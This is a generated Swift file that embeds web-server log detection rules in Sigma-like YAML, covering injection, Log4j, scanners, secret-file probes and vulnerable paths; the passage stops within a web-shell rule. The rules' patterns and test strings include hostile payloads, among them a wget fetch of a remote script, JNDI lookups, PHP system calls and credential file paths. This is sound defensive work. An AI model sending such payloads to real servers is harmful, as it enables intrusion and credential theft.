// Generated from pipelines/rules by the test theProgramHoldsTheShippedRules (MILLRACE_REGENERATE=1). Do not edit.
// swift-format-ignore-file

/// The shipped rules, in the program itself: it needs no files beside it.
public enum ShippedRules {
  public static let files: [(name: String, text: String)] = [
    ("rules/injection.yml", #"""
---
title: File inclusion target in a parameter
id: fd2444a2-cf6b-5c15-bf9f-c95fab452d2e
status: stable
description: Paths and wrappers that an application never puts into its own links.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-query|contains:
      - '=/etc/'
      - '../../../'
      - '..\..\'
      - 'php://filter'
      - 'php://input'
      - 'expect://'
      - 'phar://'
      - 'zip://'
      - 'file:///'
      - '=/proc/self'
      - 'wp-config.php'
      - 'c:/windows'
      - 'c:\windows'
      - 'c:\boot'
      - '/inetpub/'
      - 'boot.ini'
      - 'win.ini'
      - '=/var/log'
      - 'global.asa'
  condition: selection
level: high
tags:
  - attack.initial-access
  - attack.t1190
  - millrace.file-inclusion
millrace:
  examples:
    match:
      - '/v.php?p=../../../../tmp/x'
      - '/v.php?file=wp-config.php'
      - '/v.php?page=php://filter/read=convert.base64-encode/resource=index'
    clean:
      - '/v.php?page=about'
      - '/shop?next=/etcetera/'
      - '/a?img=images/x.png'
---
title: Log4j lookup
id: 8d14b51d-009f-5680-9399-cee424fbb785
status: stable
description: Log4j 2 before 2.15 follows such lookups in whatever it logs (CVE-2021-44228).
logsource:
  category: webserver
detection:
  selection:
    cs-uri|contains:
      - '${jndi:'
      - '${${'
      - '${lower:'
      - '${upper:'
      - '${::-'
  agent:
    cs-user-agent|contains:
      - '${jndi:'
      - '${${'
      - '${lower:'
      - '${::-'
  ref:
    cs-referer|contains:
      - '${jndi:'
      - '${${'
      - '${lower:'
      - '${::-'
  condition: 1 of them
level: critical
tags:
  - attack.initial-access
  - attack.t1190
  - millrace.expression
millrace:
  examples:
    match:
      - '/?x=${jndi:ldap://a.example/b}'
      - '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fa.example%7D'
      - cs-uri: '/'
        cs-user-agent: '${${lower:j}ndi:ldap://a.example/x}'
    clean:
      - '/?price=${amount}'
      - '/jndi-tutorial'
---
title: Server-side template or expression in a path or parameter
id: fc25c6c5-bae4-57c8-87ed-5c796e74e52d
status: stable
description: Names through which templates and expression languages reach the language beneath.
logsource:
  category: webserver
detection:
  selection:
    cs-uri|contains:
      - '__class__'
      - '__globals__'
      - '__subclasses__'
      - 'freemarker.template.utility'
      - 'getclass().forname'
      - '#_memberaccess'
      - '%{(#'
      - 'ognlcontext'
      - 't(java.lang'
      - 'class.module.classloader'
      - 'springframework.context'
  condition: selection
level: high
tags:
  - attack.initial-access
  - attack.t1190
  - millrace.ssti
millrace:
  examples:
    match:
      - '/?name={{''''.__class__.__mro__}}'
      - '/index.action?redirect:%25%7B(%23a%3D1)%7D'
    clean:
      - '/class/mathematics'
      - '/?q=python+class'
---
title: Remote script fetched by a shell
id: 61f6e078-eb04-5e17-8c6b-585ba1989c2d
status: stable
description: Bots have the server fetch and start their program.
logsource:
  category: webserver
detection:
  fetch:
    cs-uri|re: '(?i)(wget|curl|tftp|fetch|lwp-download)([ +]|%20|\$\{ifs\})+[^&]{0,60}https?(://|%3a)'
  pipe:
    cs-uri|re: '(?i)[;|`&]\s*(wget|curl|chmod|busybox)[ +]+(-|https?:|[ +]?x[ +]|[0-7]{3}|[$/~]|[\w.-]+[./])'
  condition: fetch or pipe
level: critical
tags:
  - attack.command-and-control
  - attack.t1105
  - millrace.cmdi
millrace:
  examples:
    match:
      - '/setup.cgi?next=x&c=wget+http://198.51.100.7/m.sh+-O+/tmp/m'
      - '/a?x=;wget+http://198.51.100.7/a'
    clean:
      - '/learn/wget-and-curl'
      - '/?q=curl+hair+tips'
      - '/?q=cat+food;+wget+your+groceries+here'
---
title: XML-RPC or deserialisation gadget
id: 3ecc2a38-bb39-55a7-bd39-b4b84fc8ec0f
status: stable
description: Serialized objects where none belong.
logsource:
  category: webserver
detection:
  selection:
    cs-uri|contains:
      - 'ro0ab'
      - 'o:8:"stdclass"'
      - 'jdatabasedrivermysqli'
      - 'commons-collections'
      - 'ysoserial'
      - 'templatesimpl'
      - 'com.sun.rowset'
  agent:
    cs-user-agent|contains:
      - 'jdatabasedrivermysqli'
      - 'o:21:"'
      - 'ro0abx'
  cookie:
    cs-cookie|contains:
      - 'ro0abx'
      - 'aced0005'
  condition: 1 of them
level: high
tags:
  - attack.initial-access
  - attack.t1190
  - millrace.deserialization
millrace:
  examples:
    match:
      - '/?s=rO0ABXNyABdqYXZh'
      - cs-uri: '/'
        cs-user-agent: '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc"'
    clean:
      - '/?q=stdclass'
      - '/about'

"""#),
    ("rules/protocol.yml", #"""
---
title: Tracing, proxying or debugging method
id: e39486e3-a753-54d9-85b4-fe59c7bbcbe3
status: stable
description: Methods that echo a request, tunnel through the server, or attach a debugger.
logsource:
  category: webserver
detection:
  selection:
    cs-method:
      - 'TRACE'
      - 'TRACK'
      - 'CONNECT'
      - 'DEBUG'
  condition: selection
level: medium
tags:
  - attack.reconnaissance
  - attack.t1595.002
  - millrace.protocol
millrace:
  examples:
    match:
      - cs-uri: '/'
        cs-method: 'TRACE'
    clean:
      - cs-uri: '/'
        cs-method: 'GET'
---
title: Another site asked for through this server
id: 79e69be0-45df-5974-a485-0f0d189bad2d
status: stable
description: A client tests whether the server is an open proxy.
logsource:
  category: webserver
detection:
  selection:
    cs-uri|re: '(?i)^(https?|ftp)://[^/]*(azenv|proxyjudge|judge|httpbin|ip-api|checkip|ipinfo|api\.ipify|testp|proxy)'
  condition: selection
level: medium
tags:
  - attack.command-and-control
  - attack.t1090
  - millrace.protocol
millrace:
  examples:
    match:
      - 'http://www.proxyjudge.example/azenv.php'
      - 'http://httpbin.org/ip'
    clean:
      - '/http://example.com/'
      - '/proxy-settings'

"""#),
    ("rules/scanners.yml", #"""
---
title: Vulnerability scanner by its own name
id: f9c46c7d-da52-5cff-a793-b1b4793f5aab
status: stable
description: Tools that look for weak spots say who they are unless told otherwise.
logsource:
  category: webserver
detection:
  selection:
    cs-user-agent|contains:
      - 'sqlmap'
      - 'nikto'
      - 'nuclei'
      - 'acunetix'
      - 'wpscan'
      - 'dirbuster'
      - 'gobuster'
      - 'feroxbuster'
      - 'dirsearch'
      - 'ffuf'
      - 'wfuzz'
      - 'masscan'
      - 'zgrab'
      - 'nmap scripting engine'
      - 'openvas'
      - 'nessus'
      - 'w3af'
      - 'arachni'
      - 'skipfish'
      - 'havij'
      - 'whatweb'
      - 'joomscan'
      - 'commix'
      - 'xsser'
      - 'jaeles'
      - 'jorgee'
      - 'zmeu'
      - 'morfeus'
      - 'netsparker'
      - 'appscan'
      - 'webinspect'
      - 'paros'
      - 'burpcollaborator'
      - 'burpsuite'
      - 'owasp zap'
      - 'zaproxy'
      - 'fimap'
      - 'sqlninja'
      - 'bsqlbf'
      - 'absinthe'
      - 'grendel-scan'
      - 'websecurify'
      - 'whisker'
      - 'n-stealth'
      - 'dotdotpwn'
      - 'cgichk'
      - 'pangolin'
      - 'mysqloit'
      - 'nsauditor'
      - 'pmafind'
      - 'springenwerk'
      - 'uil2pn'
      - 'voideye'
      - 'webbandit'
      - 'webtrends security'
      - 'xspider'
      - 'golismero'
      - 'patator'
      - 'kiterunner'
      - 'xray/'
      - 'pocsuite'
      - 'fuzz faster'
      - 'fuff'
      - 'hakrawler'
      - 'interactsh'
      - 'rapid7'
      - 'l9explore'
      - 'l9tcpid'
      - 'leakix'
      - 'xmco'
      - 'visionutils'
      - 'security scanner'
      - 'web scanner'
      - 'muieblackcat'
      - 'core-project/1.0'
      - 'advanced email extractor'
      - 'internet-structure-research'
      - 'random_agent'
  condition: selection
level: high
tags:
  - attack.reconnaissance
  - attack.t1595.002
  - millrace.scanner
millrace:
  examples:
    match:
      - cs-uri: '/'
        cs-user-agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)'
      - cs-uri: '/'
        cs-user-agent: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)'
      - cs-uri: '/'
        cs-user-agent: 'Mozilla/5.0 zgrab/0.x'
    clean:
      - cs-uri: '/'
        cs-user-agent: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36'
      - cs-uri: '/'
        cs-user-agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
---
title: Survey of the whole internet by its own name
id: 4b29e872-34e5-5f59-b91f-fb5691f544c1
status: stable
description: Services that map all hosts; not aimed at this one, yet not visitors.
logsource:
  category: webserver
detection:
  selection:
    cs-user-agent|contains:
      - 'censysinspect'
      - 'expanse'
      - 'internetmeasurement'
      - 'netsystemsresearch'
      - 'shadowserver'
      - 'binaryedge'
      - 'shodan'
      - 'odin.io'
      - 'paloaltonetworks'
      - 'project25499'
      - 'research scanner'
      - 'cyberresilience'
      - 'internet-measurement'
      - 'modat scanner'
      - 'criminalip'
      - 'stretchoid'
  condition: selection
level: medium
tags:
  - attack.reconnaissance
  - attack.t1595.001
  - millrace.scanner
millrace:
  examples:
    match:
      - cs-uri: '/'
        cs-user-agent: 'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)'
    clean:
      - cs-uri: '/'
        cs-user-agent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'
---
title: Web scanner's probe by its path
id: 697f3804-14b1-5cc5-877a-fb6283f78b38
status: stable
description: Paths that scanners ask for to see how a server answers what it does not have.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/nmaplowercheck'
      - '/nice ports,/trinity.txt'
      - '/nice%20ports'
      - '/acunetix-wvs-test'
      - '/appscan_fingerprint'
      - '/w00tw00t'
      - '/nessus'
      - '/nikto-test'
      - '/netsparker-'
      - '/cgi-bin/blabla'
      - '/thisdoesnotexistahaha'
      - '/bvtwvkmq'
      - '/azenv.php'
      - '/proxyheader'
      - '/judge.php'
      - '/testproxy.php'
      - '/hudson/script'
      - '/hello.world'
  condition: selection
level: high
tags:
  - attack.reconnaissance
  - attack.t1595.002
  - millrace.scanner
millrace:
  examples:
    match:
      - '/nmaplowercheck1591708345'
      - '/acunetix-wvs-test-for-some-inexistent-file'
    clean:
      - '/nice-ports-of-italy'
      - '/hello-world'
---
title: Header of a scanner in the referrer or user agent
id: 3be54a47-1d1b-56b5-adfc-be59867389bf
status: stable
description: Payloads in headers that logs and pages show.
logsource:
  category: webserver
detection:
  ua:
    cs-user-agent|contains:
      - '<?php'
      - '${jndi'
      - '() {'
      - '<script'
      - 'union select'
      - '/../../'
      - '/etc/passwd'
  ref:
    cs-referer|contains:
      - '<?php'
      - '${jndi'
      - '() {'
      - '<script>'
  # A browser names the page before, and escapes what stands in its address.
  page_before:
    cs-referer|startswith: 'http'
    cs-referer|contains:
      - '%3C'
      - '%24%7B'
      - '%28%29'
  condition: ua or (ref and not page_before)
level: high
tags:
  - attack.initial-access
  - attack.t1190
  - millrace.bad-client
millrace:
  examples:
    match:
      - cs-uri: '/'
        cs-user-agent: '<?php system(''id''); ?>'
      - cs-uri: '/'
        cs-user-agent: '${jndi:ldap://x.example/a}'
    clean:
      - cs-uri: '/'
        cs-user-agent: 'Mozilla/5.0 (Windows NT 10.0)'

"""#),
    ("rules/secrets.yml", #"""
---
title: Environment file of an application requested
id: 8999b633-ad02-5223-bb9a-d1c301cfbb87
status: stable
description: The file in which many frameworks keep passwords and keys is never linked from a page.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/.env'
  docs:
    cs-uri-stem|contains:
      - '/.environment-'
  condition: selection and not docs
level: high
tags:
  - attack.credential-access
  - attack.t1552.001
  - millrace.secrets
millrace:
  examples:
    match:
      - '/.env'
      - '/app/.env.production'
      - '/api/.env.bak'
    clean:
      - '/environment'
      - '/docs/env'
      - '/blog/what-is-.environment'
---
title: Version control folder requested
id: c61bb887-6092-5b53-a01e-da63ab2dfc39
status: stable
description: The history of a site's source lies in these folders where a checkout was deployed.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/.git/'
      - '/.svn/'
      - '/.hg/'
      - '/.bzr/'
      - '/cvs/entries'
      - '/cvs/root'
      - '/.gitlab-ci.yml'
  end:
    cs-uri-stem|endswith:
      - '/.git'
      - '/.gitconfig'
      - '/.git-credentials'
      - '/.svn'
      - '/.hg'
  condition: selection or end
level: high
tags:
  - attack.reconnaissance
  - attack.t1592.002
  - millrace.secrets
millrace:
  examples:
    match:
      - '/.git/config'
      - '/blog/.svn/entries'
      - '/.git/HEAD'
      - '/.git'
    clean:
      - '/user/project.git/info/refs'
      - '/gitlab/help'
      - '/.well-known/security.txt'
---
title: Keys or credentials of an account requested
id: be86635a-6ff2-5455-9d14-7f8465259c30
status: stable
description: Files in which people and tools keep keys and commands, present where a home folder is served.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/.ssh/'
      - '/.aws/'
      - '/.kube/config'
      - '/.docker/config'
      - '/.npmrc'
      - '/.netrc'
      - '/.pgpass'
      - '/.my.cnf'
      - '/id_rsa'
      - '/id_dsa'
      - '/id_ed25519'
      - '/.bash_history'
      - '/.zsh_history'
      - '/.mysql_history'
      - '/.psql_history'
      - '/.sh_history'
      - '/.htpasswd'
      - '/.htaccess'
      - '/.ftpconfig'
      - '/sftp-config.json'
      - '/.remote-sync.json'
      - '/.vscode/sftp'
      - '/.s3cfg'
      - '/.boto'
      - '/.pypirc'
      - '/credentials.json'
      - '/service-account.json'
      - '/.bashrc'
      - '/.profile'
      - '/.bash_profile'
  condition: selection
level: high
tags:
  - attack.credential-access
  - attack.t1552.001
  - millrace.secrets
millrace:
  examples:
    match:
      - '/.ssh/id_rsa'
      - '/.aws/credentials'
      - '/backup/.htpasswd'
    clean:
      - '/ssh-tutorial/'
      - '/aws/pricing'
      - '/profile'
---
title: Settings of a programmer's tool requested
id: 2f0c6c8e-51b5-5d7e-9a53-0b9d4c1f7e21
status: stable
description: Hidden folders of editors, assistants and build tools come along when a work folder is served; they hold keys and prompts.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/.claude/'
      - '/.cursor/'
      - '/.codex/'
      - '/.continue/'
      - '/.aider'
      - '/.windsurf/'
      - '/.cline/'
      - '/.roo/'
      - '/.zed/'
      - '/.kiro/'
      - '/.junie/'
      - '/.opencode/'
      - '/.n8n/'
      - '/.idea/'
      - '/.vscode/'
      - '/.terraform/'
      - '/.circleci/'
      - '/.github/workflows'
      - '/.cursorignore'
      - '/.aiignore'
  condition: selection
level: high
tags:
  - attack.discovery
  - attack.t1083
  - millrace.secrets
millrace:
  examples:
    match:
      - '/.claude/settings.json'
      - '/.vscode/settings.json'
      - '/app/.cursor/mcp.json'
    clean:
      - '/claude/'
      - '/blog/vscode-tips'
      - '/.well-known/assetlinks.json'
---
title: Copy of a script or configuration requested
id: e63e57f4-c3c8-5934-9df0-5f4abd749cb6
status: stable
description: Editors and hurried administrators leave copies that the server shows instead of running.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|re: '(?i)\.(php\d?|phtml|jspx?|aspx?|asa|cgi|inc|conf|cnf|config|ini|ya?ml|properties|java|py|rb|html?|js|css|gif|jpe?g|png|xml|json|do|cfm)(\.|_|-)?(bak\d?|backup|old\d?|orig|original|save\d?|sav|swp|swo|tmp|temp|copy|dist|~|1|2|zip|tar|gz|rar)$'
  tilde:
    cs-uri-stem|re: '(?i)\.[a-z0-9]{1,5}(~\d*|\.~\d*~)$'
  fine:
    cs-uri-stem|re: '(?i)\.(css|js|json|xml|html?)\.gz$'
  fine2:
    cs-uri-stem|re: '(?i)(html?|xml|css|js|jpe?g|png|gif)[._-]?(txt|1|2|zip|tar|rar)$'
  condition: (selection and not 1 of fine*) or tilde
level: high
tags:
  - attack.credential-access
  - attack.t1552.001
  - millrace.secrets
millrace:
  examples:
    match:
      - '/index.php.bak'
      - '/wp-config.php~'
      - '/shop/cart.jsp.old'
      - '/config.inc.php.save'
      - '/img/logo.gif~'
      - '/web.config.bak'
    clean:
      - '/static/app.js.gz'
      - '/sitemap.xml.gz'
      - '/downloads/release.tar.gz'
      - '/img/photo.jpg'
      - '/robots.txt'
      - '/release-1.2.zip'
---
title: Obsolete or included source requested
id: 1809675c-ccee-5d4e-8f06-1d6bf929e804
status: stable
description: Endings of files that a site includes, replaced or forgot, which browsers do not ask for.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|endswith:
      - '.bak'
      - '.old'
      - '.inc'
      - '.swp'
      - '.orig'
      - '.save'
      - '.sav'
      - '.backup'
      - '.copy'
      - '.mdb'
      - '.asa'
      - '.pwd'
      - '.dmp'
  condition: selection
level: medium
tags:
  - attack.discovery
  - attack.t1083
  - millrace.secrets
millrace:
  examples:
    match:
      - '/admin/config.inc'
      - '/db.mdb'
      - '/global.asa'
      - '/site.old'
    clean:
      - '/about-us'
      - '/companies/acme-inc'
      - '/article/gold'
---
title: Database dump requested
id: b0537e24-f0bf-5e48-81d9-576a3b6ba5c4
status: stable
description: Dumps and archives of a whole site are guessed by name.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|re: '(?i)/[^/]*(dump|backup|database|db|mysql|site|www|data|users|localhost|wordpress|prod)[^/]*\.(sql|sql\.gz|sql\.zip|sqlite3?|db|mdb|bak|tar\.gz|tgz|zip|rar|7z)$'
  sql:
    cs-uri-stem|endswith:
      - '.sql'
      - '.sql.gz'
      - '.sql.zip'
      - '.sqlite'
      - '.sqlite3'
      - '.sql.bz2'
  fine:
    cs-uri-stem|contains:
      - 'release'
      - 'download'
      - 'assets/'
      - '/static/'
      - 'dataset'
      - '/data/'
  condition: (selection or sql) and not fine
level: high
tags:
  - attack.credential-access
  - attack.t1552.001
  - millrace.secrets
millrace:
  examples:
    match:
      - '/dump.sql'
      - '/backup.zip'
      - '/wwwroot.zip'
      - '/db.sqlite3'
      - '/old/mysql.sql.gz'
    clean:
      - '/downloads/release-1.2.zip'
      - '/learn/sql'
      - '/files/brochure.zip'
      - '/wiki/Database'
---
title: Configuration file requested
id: 65e2d43e-042f-5a81-8b48-3820c715154f
status: stable
description: Configuration belongs outside the folder that is served.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|endswith:
      - '/wp-config.php.txt'
      - '/configuration.php.txt'
      - '/web.config'
      - '/appsettings.json'
      - '/appsettings.production.json'
      - '/config.json.bak'
      - '/application.properties'
      - '/application.yml'
      - '/application.yaml'
      - '/settings.py'
      - '/config/database.yml'
      - '/config/secrets.yml'
      - '/parameters.yml'
      - '/local.xml'
      - '/composer.lock'
      - '/docker-compose.yml'
      - '/dockerfile'
      - '/.dockerenv'
      - '/jenkinsfile'
      - '/.travis.yml'
      - '/php.ini'
      - '/httpd.conf'
      - '/nginx.conf'
      - '/my.cnf'
      - '/boot.ini'
      - '/win.ini'
      - '/server.xml'
      - '/tomcat-users.xml'
      - '/.ds_store'
      - '/thumbs.db'
      - '/desktop.ini'
      - '/.idea/workspace.xml'
      - '/.vscode/settings.json'
      - '/config.yml'
      - '/secrets.json'
      - '/.wp-config.php.swp'
      - '/wp-config.php.swp'
      - '/id_rsa.pub'
      - '/server.key'
      - '/privatekey.key'
      - '/private.key'
      - '/key.pem'
  condition: selection
level: high
tags:
  - attack.credential-access
  - attack.t1552.001
  - millrace.secrets
millrace:
  examples:
    match:
      - '/web.config'
      - '/config/database.yml'
      - '/WEB-INF/../server.xml'
      - '/.DS_Store'
    clean:
      - '/web-configuration/'
      - '/settings'
      - '/docs/docker-compose/'
---
title: Java application's inner folder requested
id: 2e401ed5-0baa-5bd4-b116-fbf73656a96a
status: stable
description: Servlet containers never serve these folders unless a check is bypassed.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/web-inf/'
      - '/meta-inf/'
  condition: selection
level: high
tags:
  - attack.discovery
  - attack.t1083
  - millrace.secrets
millrace:
  examples:
    match:
      - '/WEB-INF/web.xml'
      - '/app/META-INF/MANIFEST.MF'
    clean:
      - '/web-info/'
      - '/meta/information'
---
title: Archive of a site guessed
id: 8f4fb4a0-4b33-5306-b659-6dc9166e0600
status: stable
description: An archive named after the folder that it was made of, where the site itself would have been packed.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|re: '(?i)^/(old|web|website|html|public|public_html|htdocs|httpdocs|root|webroot|dev|bak|back|sql)\.(zip|rar|7z|tar|tgz|tar\.(gz|bz2|xz)|gz|bz2)$'
  condition: selection
level: medium
tags:
  - attack.credential-access
  - attack.t1552.001
  - millrace.secrets
millrace:
  examples:
    match:
      - '/old.zip'
      - '/html.tar.gz'
      - '/public_html.rar'
      - '/bak.7z'
    clean:
      - '/downloads/old.zip'
      - '/app.zip'
      - '/fonts.zip'
      - '/html.html'

"""#),
    ("rules/vulnerabilities.yml", #"""
---
title: PHP unit test runner requested
id: f37ef580-d509-56ce-b840-50c9ef425ead
status: stable
description: The runner executes whatever body it is sent (CVE-2017-9841).
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/phpunit/src/util/php/eval-stdin.php'
      - '/phpunit/util/php/eval-stdin.php'
      - 'eval-stdin.php'
  condition: selection
level: critical
tags:
  - attack.initial-access
  - attack.t1190
  - millrace.vulnerability
millrace:
  examples:
    match:
      - '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'
    clean:
      - '/docs/phpunit'
---
title: Router or camera command page requested
id: b620b76c-2aad-5f0f-b5f7-34b09fe0f949
status: stable
description: Pages of devices, which a website does not have.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/boaform/'
      - '/setup.cgi'
      - '/hnap1'
      - '/gponform/'
      - '/cgi-bin/luci'
      - '/cgi-bin/nobody/'
      - '/cgi-bin/authlogin.cgi'
      - '/goform/'
      - '/sdk/weblanguage'
      - '/tmui/login.jsp'
      - '/tmunblock.cgi'
      - '/picsdesc.xml'
      - '/wanipcn.xml'
      - '/ctrlt/deviceupgrade'
      - '/uddiexplorer'
      - '/cgi-bin/viewlog'
      - '/currentsetting.htm'
      - '/soap.cgi'
      - '/apply.cgi'
      - '/cgi-bin/supervisor'
      - '/onvif/'
      - '/web_shell_cmd.gch'
      - '/level/15/'
      - '/cgi-bin/config.exp'
      - '/webcm'
      - '/remote/fgt_lang'
      - '/remote/login'
      - '/dana-na/'
      - '/vpns/'
      - '/vpn/../'
      - '/+cscoe+/'
      - '/+cscot+/'
      - '/global-protect/'
      - '/sslvpn/'
      - '/owa/auth/x.js'
      - '/autodiscover/autodiscover.json'
      - '/ecp/current'
      - '/mifs/'
      - '/saml/login_'
      - '/cgi-bin/.%2e'
      - '/cgi-bin/slogin'
      - '/dvr/cmd'
  condition: selection
level: high
tags:
  - attack.initial-access
  - attack.t1190
  - millrace.vulnerability
millrace:
  examples:
    match:
      - '/boaform/admin/formLogin'
      - '/HNAP1/'
      - '/dana-na/../dana/html5acc'
      - '/setup.cgi?todo=syscmd'
    clean:
      - '/setup'
      - '/goforms'
      - '/remote-work/'
      - '/vpn-guide'
---
title: Application server console requested
id: 062b6761-f520-5619-a310-e1a45d0c9f35
status: stable
description: Consoles and diagnostic pages that give away the host, or the host's insides.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/manager/html'
      - '/host-manager/html'
      - '/jmx-console'
      - '/web-console/'
      - '/invoker/'
      - '/jbossmq'
      - '/console/login/loginform.jsp'
      - '/console/css/%252e'
      - '/wls-wsat/'
      - '/_async/'
      - '/axis2/'
      - '/axis2-admin'
      - '/struts2-showcase'
      - '/struts/'
      - '/solr/admin'
      - '/solr/select'
      - '/jenkins/script'
      - '/script/console'
      - '/hudson'
      - '/geoserver/web'
      - '/druid/index'
      - '/nacos/'
      - '/_cat/indices'
      - '/_cluster/'
      - '/_all_dbs'
      - '/_utils/'
      - '/server-status'
      - '/server-info'
      - '/actuator/'
      - '/env.json'
      - '/heapdump'
      - '/jolokia/'
      - '/trace.axd'
      - '/elmah.axd'
      - '/telescope/requests'
      - '/_profiler/'
      - '/_ignition/'
      - '/debug/default/view'
      - '/debug/pprof'
      - '/app_dev.php'
      - '/.well-known/../'
      - '/solr/'
      - '/phpinfo'
      - '/info.php'
      - '/test.php'
      - '/nginx_status'
      - '/v2/_catalog'
      - '/containers/json'
      - '/api/v1/pods'
      - '/api/jsonws/invoke'
      - '/portal/redlion'
      - '/metrics/../'
      - '/cfide/'
      - '/lucee/admin'
      - '/railo-context'
      - '/fckeditor/editor/filemanager'
      - '/ckfinder/'
      - '/kcfinder/'
      - '/elfinder/'
      - '/elrekt.php'
      - '/thinkphp/'
      - '/think\app/'
      - 'invokefunction&function=call_user_func'
      - '/geoip/'
      - '/ab2g'
      - '/ab2h'
      - '/druid/'
      - '/minio/'
      - '/xxl-job-admin'
      - '/zabbix/'
      - '/cgi-bin/test-cgi'
      - '/cgi-bin/printenv'
      - '/cgi-bin/php'
      - '/cgi-bin/status'
      - '/cgi-bin/bash'
      - '/cgi-bin/test.cgi'
  condition: selection
level: medium
tags:
  - attack.initial-access
  - attack.t1190
  - millrace.vulnerability
millrace:
  examples:
    match:
      - '/manager/html'
      - '/actuator/env'
      - '/_ignition/execute-solution'
      - '/server-status'
      - '/phpinfo.php'
      - '/solr/admin/cores'
    clean:
      - '/management'
      - '/actuators/linear'
      - '/latest.php-releases'
      - '/druids-and-bards'
---
title: WordPress inner file probed
id: caecc9f1-7fdd-54e8-9d39-731b36d3c3ca
status: stable
description: Files of WordPress and its plugins through which sites are taken over.
logsource:
  category: webserver
detection:
  selection:
    cs-uri|contains:
      - '/wp-content/debug.log'
      - '/wp-content/plugins/wp-file-manager/lib/php/connector'
      - '/wp-content/plugins/revslider/temp'
      - '/wp-admin/setup-config.php'
      - '/wp-admin/install.php'
      - '/wp-config'
      - '/wp-content/uploads/wpo-plugins'
      - '/timthumb.php'
      - '/wp-json/wp/v2/users/'
      - '/wp-content/uploads/dump'
      - '/wp-content/plugins/fix/up.php'
      - '/wp-content/themes/twentyone/'
      - '/alfacgiapi'
      - '/alfa_data'
      - '/wp-content/force-download.php'
  condition: selection
level: medium
tags:
  - attack.initial-access
  - attack.t1190
  - millrace.vulnerability
millrace:
  examples:
    match:
      - '/wp-admin/setup-config.php'
      - '/wp-config.php'
      - '/wp-content/themes/x/timthumb.php?src=http://evil.example/a.php'
    clean:
      - '/wp-content/uploads/2016/02/photo.jpg'
      - '/wp-json/oembed/1.0/embed'
      - '/wp-login.php'
---
title: Database administration page guessed
id: e72bd2a9-1ed9-5012-b505-43fd12ac6e60
status: stable
description: Guesses at tools that administer databases from a browser.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|contains:
      - '/phpmyadmin'
      - '/pma/'
      - '/myadmin/'
      - '/mysqladmin'
      - '/phppgadmin'
      - '/adminer.php'
      - '/adminer-'
      - '/dbadmin'
      - '/sqlmanager'
      - '/mysql-admin'
      - '/php-my-admin'
      - '/phpmyadmin2'
      - '/pma2'
      - '/sqlweb'
      - '/websql'
      - '/webdb'
      - '/sqlitemanager'
      - '/phpmy/'
      - '/mysql/admin'
      - '/mysql/dbadmin'
      - '/mysql/sqlmanager'
      - '/muieblackcat'
      - '/w00tw00t'
      - '/scripts/setup.php'
  condition: selection
level: medium
tags:
  - attack.initial-access
  - attack.t1190
  - millrace.vulnerability
millrace:
  examples:
    match:
      - '/phpMyAdmin/index.php'
      - '/pma/scripts/setup.php'
      - '/w00tw00t.at.blackhats.romanian.anti-sec:)'
    clean:
      - '/sigma/pma-report'
      - '/administration'
      - '/docs/mysql/'
---
title: WordPress plugin or theme probed by its readme
id: 1ca0dc4d-a95a-5a5d-bb5e-6a436992563c
status: stable
description: Readmes tell which version is installed; no page links to them.
logsource:
  category: webserver
detection:
  selection:
    cs-uri-stem|re: '(?i)/wp-content/(plugins|themes)/[^/]{1,80}/(readme|changelog|license)\.(txt|md)$'
  condition: selection
level: medium
tags:
  - attack.reconnaissance
  - attack.t1595.002
  - millrace.vulnerability
millrace:
  examples:
    match:
      - '/wp-content/plugins/some-cart/readme.txt'
      - '/blog/wp-content/themes/plain/changelog.txt'
    clean:
      - '/wp-content/plugins/some-cart/style.css'
      - '/docs/readme.txt'
      - '/wp-content/uploads/readme.txt'
---
title: WordPress users counted up
id: 99f7fb3b-823d-5e90-acbc-3b4b7d0df795
status: stable
description: The names of users, asked for by number or as a list, are what password guessing begins with.
logsource:
  category: webserver
detection:
  number:
    c-uri|re: '(?i)^/([\w-]{1,40}/)?(index\.php)?\?author=\d{1,4}$'
  list:
    c-uri|re: '(?i)(/wp-json|\?rest_route=)/wp/v2/users/?$'
  condition: number or list
level: medium
tags:
  - attack.reconnaissance
  - attack.t1589
  - millrace.vulnerability
millrace:
  examples:
    match:
      - '/?author=1'
      - '/blog/?author=12'
      - '/wp-json/wp/v2/users'
      - '/?rest_route=/wp/v2/users'
    clean:
      - '/?author=jane'
      - '/author/jane/'
      - '/wp-json/wp/v2/users/me?context=edit'
      - '/books?author=12&page=2'
      - '/?author_id=3'

"""#),
    ("rules/webshells.yml", #"""
---
title: Known web shell requested
id: 5166d21a-1a59-588a-811b-0f700031e865
status: stable
description: Names under which web shells are left, asked for by others who look for them.
logsource:
  category: webserver
detection:
  selection:
